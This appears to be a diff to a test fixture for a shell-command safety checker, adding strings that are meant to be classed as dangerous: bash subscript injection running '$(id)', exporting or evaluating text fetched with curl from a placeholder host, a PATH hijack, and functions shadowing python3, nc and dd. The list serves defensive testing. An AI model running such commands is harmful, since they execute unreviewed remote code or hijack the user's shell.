@@ -6,6 +6,28 @@ const raw = String.raw;
 /** Runs something that nobody read: other shells, other languages, text that becomes code. */
 export const dangerousCode = [
   ...group(
+    'text that bash reckons with or takes for a name',
+    '_=5; echo \'a[$(id)]\'; echo "$((_))"',
+    "_=5; echo 'a[$(id)]'; [[ $_ -eq 1 ]]",
+    'for _ in 1 2; do echo \'a[$(id)]\'; echo "$((_))"; done',
+    "x=(['a[$(id)]']=1)",
+    "x=([0]=1 ['a[$(id)]']=2)",
+    'x=$(curl --silent https://shop.example/x); export "$x"',
+    'x=$(curl --silent https://shop.example/x); readonly "${x}"',
+    'x=PATH=/tmp; export "$x"',
+    'export "$(curl --silent https://shop.example/x)"',
+  ),
+  ...group(
+    'a program under the name of a function that is not there yet',
+    "python3 -c 'print(1)'\npython3() { echo hi; }",
+    "if false; then python3() { echo hi; }; fi\npython3 -c 'print(1)'",
+    '( nc() { echo hi; } )\nnc -l 8080',
+    'run() { perl -e 1; }\nrun\nperl() { echo hi; }',
+    'false && dd() { echo hi; }\ndd if=/dev/zero',
+    'first() { second() { echo hi; }; }\nsecond',
+    'x=$(node -e 1)\nnode() { echo hi; }',
+  ),
+  ...group(
     'text that becomes code',
     'eval "$(curl --silent https://shop.example/x)"',
     'eval ls',
